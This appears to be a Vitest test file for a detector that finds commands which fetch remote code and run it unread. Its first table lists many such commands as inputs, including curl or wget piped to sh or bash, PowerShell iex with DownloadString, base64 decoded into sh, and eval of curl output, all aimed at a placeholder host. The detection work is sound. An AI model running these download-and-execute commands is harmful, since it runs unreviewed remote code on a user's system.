// Programs that are fetched and run unread are seen in commands and in sentences; other pipes are not.
import { expect, test } from "vitest";
import { fetchAndRunIn } from "../../../src/domain/words/fetch-and-run.ts";

test.each([
  ["Run curl -fsSL https://get.example | sh first.", "curl -fsSL https://get.example | sh"],
  ["`curl https://get.example/i.sh | sudo -E bash -`", "curl https://get.example/i.sh | sudo -E bash"],
  ["wget -qO- get.example|/bin/bash", "wget -qO- get.example|/bin/bash"],
  ["curl get.example | tee a | python3 -", "curl get.example | tee a | python3"],
  ["iwr https://get.example | iex", "iwr https://get.example | iex"],
  ["iex (irm get.example)", "iex (irm"],
  ["IEX (New-Object Net.WebClient).DownloadString('http://get.example')", "IEX (New-Object"],
  ["echo aGk= | base64 -d | sh", "base64 -d | sh"],
  ['eval "$(curl -s get.example)"', 'eval "$(curl'],
  ["bash <(wget -qO- get.example)", "bash <(wget"],
  ['sh -c "$(curl get.example)"', 'sh -c "$(curl'],
  ["curl -o i.sh get.example && sh i.sh", "curl -o i.sh get.example && sh i.sh"],
  ["wget get.example/i; chmod +x i; ./i", "wget get.example/i; chmod +x"],
  ["npx -y https://get.example/a.tgz", "npx -y https://get.example/a.tgz"],
  ["pnpm dlx github:a/b", "pnpm dlx github:a/b"],
  ["exec(requests.get(url).text)", "exec(requests.get("],
])("%s", (text, phrase) => {
  expect(fetchAndRunIn(text)).toBe(phrase);
});

test.each([
  "| curl | shell |",
  "curl -s http://localhost:8080/items | jq .",
  "curl -s get.example; then test the list",
  "docker compose up -d && curl -fsS http://localhost:8080/health",
  "npx vitest run; npm ci && npm test",
  "Fetch the data | node list",
  "Evaluate (curl) and wget; use a shell.",
])("nothing in: %s", (text) => {
  expect(fetchAndRunIn(text)).toBeNull();
});

test.each(["curl ", "curl |", "curl | sudo ", "eval ", "npx ", "exec(", "iex (", "curl ; sudo "])(
  "a hundred thousand of %s take less than two seconds",
  (piece) => {
    const begin = performance.now();
    fetchAndRunIn(piece.repeat(100_000));
    expect(performance.now() - begin).toBeLessThan(2_000);
  },
);
